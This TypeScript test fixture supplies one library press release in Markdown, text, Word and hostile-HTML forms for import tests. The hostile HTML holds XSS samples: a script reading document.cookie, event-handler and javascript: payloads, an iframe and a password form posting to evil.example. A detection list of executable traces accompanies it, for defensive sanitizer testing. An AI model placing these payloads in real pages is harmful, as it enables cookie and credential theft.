import { ExternalHyperlink, HeadingLevel, Packer, Paragraph, TextRun, Document } from 'docx';

/**
 * One press release, in the structure of the reference example (reference line, headline,
 * "CITY, date –" dateline, body with a quote, more-information link, notes to editors, press
 * contact block), written as each format writes it. What every import must recognise:
 */
export const riverside = {
  reference: 'RVL 7(2026)',
  headline: 'Riverside Library opens a night reading room for shift workers',
  place: 'Riverside',
  date: '2026-03-02',
  lead: 'The Riverside Library will keep its east reading room open from 22:00 to 06:00 from 1 April, for the nurses, drivers and port workers who finish late.',
  quote: '“Many of our readers start their day when we close,” said Hanna Lind, Head Librarian.',
  moreInformation: 'https://library.example.org/night',
  note: 'The Riverside Library was founded in 1902 and lends two million items a year.',
  contact: 'Omar Haddad, Media Officer, tel. +44 20 7946 0555',
  contactEmail: 'press@library.example.org',
} as const;

export const riversideMarkdown = `Press release ${riverside.reference}

# ${riverside.headline}

${riverside.place}, 02.03.2026 – The Riverside Library will keep its east reading room open from 22:00 to 06:00 from 1 April, for the **nurses, drivers and port workers** who finish late.

${riverside.quote}

[More information](${riverside.moreInformation})

## Notes to editors

${riverside.note}

Press contact:

${riverside.contact}

${riverside.contactEmail}
`;

export const riversideText = `Press release ${riverside.reference}

${riverside.headline}

${riverside.place}, 02.03.2026 – ${riverside.lead}

${riverside.quote}

Notes to editors

${riverside.note}

Press contact:

${riverside.contact}

${riverside.contactEmail}
`;

/**
 * The release as a web page that someone booby-trapped: a script, event handlers, a javascript:
 * link, a frame, a form, a tracking pixel and a style sheet. None of it may reach the release.
 */
export const riversideHostileHtml = `<!doctype html>
<html lang="en"><head><title>Press</title>
<style>body { background: url(https://tracker.example/bg.png) }</style>
<script>window.stolen = document.cookie</script>
</head><body onload="alert('load')">
<p>Press release ${riverside.reference}</p>
<h1>${riverside.headline}</h1>
<p>${riverside.place}, 02.03.2026 – The Riverside Library will keep its east reading room open from 22:00 to 06:00 from 1 April, for the <b>nurses, drivers and port workers</b> who finish late.<img src="https://tracker.example/pixel.gif" width="1" height="1" onerror="alert('pixel')"></p>
<blockquote><p>${riverside.quote}</p></blockquote>
<p><a href="javascript:alert('link')">Click here</a> or read <a href="${riverside.moreInformation}" onclick="alert('click')">More information</a></p>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="password"></form>
<svg><script>alert('svg')</script></svg>
<h2>Notes to editors</h2>
<p>${riverside.note}</p>
<p>Press contact:</p>
<p>${riverside.contact}</p>
<p>${riverside.contactEmail}</p>
</body></html>
`;

/** Traces of active content that must not survive an import, in any field. */
export const EXECUTABLE_TRACES = [
  '<script',
  'javascript:',
  'onerror',
  'onload',
  'onclick',
  'alert(',
  '<iframe',
  'evil.example',
  'tracker.example',
];

/** The release as a Word document, with a heading style for the headline and a bold run. */
export async function riversideDocx(): Promise<Uint8Array> {
  const text = (value: string) => new Paragraph({ children: [new TextRun(value)] });
  const document = new Document({
    sections: [
      {
        children: [
          text(`Press release ${riverside.reference}`),
          new Paragraph({ text: riverside.headline, heading: HeadingLevel.HEADING_1 }),
          new Paragraph({
            children: [
              new TextRun(
                `${riverside.place}, 02.03.2026 – The Riverside Library will keep its east reading room open from 22:00 to 06:00 from 1 April, for the `,
              ),
              new TextRun({ text: 'nurses, drivers and port workers', bold: true }),
              new TextRun(' who finish late.'),
            ],
          }),
          text(riverside.quote),
          new Paragraph({
            children: [
              new ExternalHyperlink({
                link: riverside.moreInformation,
                children: [new TextRun({ text: 'More information', style: 'Hyperlink' })],
              }),
            ],
          }),
          new Paragraph({ text: 'Notes to editors', heading: HeadingLevel.HEADING_2 }),
          text(riverside.note),
          text('Press contact:'),
          text(riverside.contact),
          text(riverside.contactEmail),
        ],
      },
    ],
  });
  return Packer.toBuffer(document);
}
